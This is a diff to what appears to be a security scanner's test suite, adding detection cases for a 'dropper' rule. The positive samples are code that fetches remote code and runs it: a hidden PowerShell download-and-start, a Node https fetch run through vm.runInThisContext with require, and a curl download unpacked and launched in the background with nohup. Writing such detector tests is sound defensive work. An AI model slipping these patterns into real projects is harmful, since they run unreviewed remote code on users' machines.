@@ -130,4 +130,19 @@ describeRuleCases('dropper', [
       '(New-Object Net.WebClient).DownloadFile($u, $exe)\nStart-Process -FilePath $exe -WindowStyle Hidden\n',
     negative: 'Invoke-WebRequest -Uri $u -OutFile report.csv\nStart-Process notepad.exe report.csv\n',
   },
+  {
+    id: 'SG-DROPPER-008',
+    file: 'scripts/plugins.js',
+    positive:
+      "https.get({ host, path }, (res) => {\n  res.on('end', () => vm.runInThisContext(`(function (require) {${src}\\n})`)(require));\n});\n",
+    negative: 'const cfg = await fetch(url).then((r) => r.json());\nconsole.log(vm.isContext(cfg));\n',
+  },
+  {
+    id: 'SG-DROPPER-010',
+    file: 'scripts/dedupe.sh',
+    positive:
+      'curl -fsSL "$url" -o "$cache/p.tgz" && tar -xzf "$cache/p.tgz" -C "$cache"\nnohup "$cache/normd" >/dev/null 2>&1 &\n',
+    negative:
+      'curl -fsSL "$url" -o "$cache/data.tgz" && tar -xzf "$cache/data.tgz" -C "$cache"\nwc -l "$cache"/*.csv\n',
+  },
 ]);
